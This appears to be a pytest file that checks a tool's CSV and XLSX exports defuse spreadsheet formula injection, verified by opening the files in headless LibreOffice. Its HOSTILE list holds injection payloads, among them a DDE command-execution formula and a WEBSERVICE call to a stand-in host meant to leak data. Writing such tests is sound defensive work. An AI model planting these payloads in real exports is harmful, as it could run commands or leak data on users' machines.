"""Text that a spreadsheet could run stays text, as LibreOffice itself reads the files."""

from __future__ import annotations

import csv
import json
import os
import shutil
import subprocess
from pathlib import Path

import pytest
from click.testing import CliRunner
from lxml import etree

import waymark
from index import build
from index.library import Library
from ingest.records import Failure

# Debian has a program of its own for Calc; LibreOffice may be there without it.
SOFFICE = shutil.which("soffice") if shutil.which("localc") else None

pytestmark = pytest.mark.skipif(
    SOFFICE is None, reason="no LibreOffice: apt-get install libreoffice-calc"
)

HOSTILE = (
    '=HYPERLINK("http://example.org";"ministers")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1;1)",
    "=cmd|' /C calc'!A0",
    '=WEBSERVICE("http://example.org/?leak")',
    "\t=1+1",
    " =1+1",
)
# Separator, quote, UTF-8, from the first line on; numbers found, and formulas run (the last).
READ_CSV = "CSV:44,34,76,1,,0,false,true,false,false,false,-1,true"
TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"


def opened(path: Path, folder: Path) -> etree._ElementTree:
    """The file as LibreOffice opens it: its flat XML."""
    reading = [f"--infilter={READ_CSV}"] if path.suffix == ".csv" else []
    profile = f"-env:UserInstallation=file://{folder / 'profile'}"
    out = folder / path.stem
    subprocess.run(
        [SOFFICE, profile, "--headless", *reading, "--convert-to", "fods", "--outdir", out, path],
        check=True,
        capture_output=True,
        timeout=120,
        env=os.environ | {"HOME": str(folder)},
    )
    return etree.parse(out / f"{path.stem}.fods")


def texts(tree: etree._ElementTree) -> list[str]:
    """What its cells show."""
    cells = tree.iter(f"{TABLE}table-cell")
    return ["\n".join("".join(p.itertext()) for p in cell.iter(f"{TEXT}p")) for cell in cells]


def live(tree: etree._ElementTree) -> list[str]:
    """Formulas and links in it."""
    formulas = [cell.get(f"{TABLE}formula", "") for cell in tree.iter(f"{TABLE}table-cell")]
    return [formula for formula in formulas if formula] + [a.text for a in tree.iter(f"{TEXT}a")]


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with LibreOffice's profile, which takes seconds to make."""
    return tmp_path_factory.mktemp("office")


@pytest.fixture
def hostile(empty_library: Library, tmp_path: Path) -> Library:
    """Documents whose every field a spreadsheet could run."""
    entries = [
        {"id": text, "title": text, "publisher": text, "text": f"{text} ministers met mentors."}
        for text in HOSTILE
    ]
    path = tmp_path / "hostile.jsonl"
    path.write_text("\n".join(map(json.dumps, entries)))
    assert not [e for e in build.add(empty_library, [path]) if isinstance(e, Failure)]
    return empty_library


def test_a_formula_in_an_unguarded_file_would_be_run(folder: Path, tmp_path: Path) -> None:
    path = tmp_path / "unguarded.csv"
    path.write_text("title\n=1+1\n")
    assert live(opened(path, folder)) == ["of:=1+1"]


@pytest.mark.parametrize("layout", ["csv", "xlsx"])
def test_hostile_cells_are_text(hostile: Library, folder: Path, tmp_path: Path, layout) -> None:
    questions, out = tmp_path / "questions.csv", tmp_path / f"out.{layout}"
    with questions.open("w", newline="") as stream:
        asked = ((f"{text} {number}", text) for number, text in enumerate(HOSTILE))
        csv.writer(stream).writerows([("id", "question"), *asked])
    command = ["batch", str(questions), "-o", str(out), "--format", layout]
    result = CliRunner().invoke(waymark.main, ["--home", str(hostile.home.path), *command])
    assert result.exit_code == 0, result.output
    tree = opened(out, folder)
    assert live(tree) == []
    shown = {text.removeprefix("'").strip() for text in texts(tree)}
    assert {text.strip() for text in HOSTILE} <= shown


def test_hostile_tags_are_text(hostile: Library, folder: Path, tmp_path: Path) -> None:
    with hostile.catalog() as catalog:
        passages = [
            stored.passage_id
            for document in catalog.documents()
            for stored in catalog.passages_of(document.document_id)
        ]
    for name in passages:
        home = ["--home", str(hostile.home.path)]
        done = CliRunner().invoke(waymark.main, [*home, "decide", name, "mentoring", "add"])
        assert done.exit_code == 0, done.output
    written = CliRunner().invoke(
        waymark.main, ["--home", str(hostile.home.path), "tags", "--format", "csv"]
    )
    path = tmp_path / "tags.csv"
    path.write_text(written.stdout, encoding="utf-8")
    tree = opened(path, folder)
    assert live(tree) == []
    assert len([text for text in texts(tree) if text == "mentoring"]) == len(passages) > 5
